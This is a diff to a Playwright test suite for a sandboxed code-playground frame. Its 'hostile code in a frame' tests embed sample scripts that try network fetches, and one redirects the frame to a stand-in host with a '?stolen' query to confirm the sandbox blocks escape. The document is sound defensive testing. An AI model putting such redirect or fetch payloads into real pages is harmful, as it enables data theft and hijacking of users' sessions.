@@ -13,8 +13,8 @@ const fixtures = path.join(__dirname, 'fixtures');
 /** Puts the frame of a sample into a note, as the build does, and answers for it with a document. */
 async function showFrame(page: Page, file: string, document: string): Promise<FrameLocator> {
   const files = [file, file.replace(/\.\w+$/, '.check.mjs')];
-  const extras = playgroundExtras({ baseUrl: '/' })({
-    page: 'a/b',
+  const extras = playgroundExtras({ baseUrl: '/', samplesFolder: fixtures })({
+    page: '',
     file,
     files,
     text: '',
@@ -48,7 +48,7 @@ test.describe('the live result of a page', () => {
       'a.js': 'document.querySelector("p").textContent = "ran";',
     };
     const read = (name: string) => (texts[name] === undefined ? undefined : Buffer.from(texts[name]));
-    const frame = await showFrame(page, 'a.html', htmlFrame({ file: 'a.html', html, read }));
+    const frame = await showFrame(page, 'box.html', htmlFrame({ file: 'a.html', html, read }));
     await expect(frame.locator('p')).toHaveText('ran');
     const heading = frame.locator('h1');
     expect(
@@ -93,7 +93,7 @@ test.describe('hostile code in a frame', () => {
         .then((fetches) => { document.querySelector('pre').textContent = JSON.stringify({ ...tried, fetches, origin }); });`;
     const html = `<!doctype html><html lang="en"><title>x</title><pre></pre><script>${script}</script>`;
     const requests: string[] = [];
-    const frame = await showFrame(page, 'a.html', htmlFrame({ file: 'a.html', html, read: () => undefined }));
+    const frame = await showFrame(page, 'box.html', htmlFrame({ file: 'a.html', html, read: () => undefined }));
     page.on('request', (request) => requests.push(request.url()));
     await expect(frame.locator('pre')).toHaveText(/\{/);
     const tried = JSON.parse((await frame.locator('pre').textContent())!) as Record<string, unknown>;
@@ -116,7 +116,7 @@ test.describe('hostile code in a frame', () => {
 
   test('cannot turn the frame into another site', async ({ page, foreignRequests }) => {
     const html = `<!doctype html><html lang="en"><title>x</title><p>here</p><script>setTimeout(() => { location = 'https://other.example/?stolen'; }, 50);</script>`;
-    await showFrame(page, 'a.html', htmlFrame({ file: 'a.html', html, read: () => undefined }));
+    await showFrame(page, 'box.html', htmlFrame({ file: 'a.html', html, read: () => undefined }));
     await page.waitForTimeout(600);
     expect(foreignRequests).toEqual([]);
     await expect(page).toHaveURL(note);
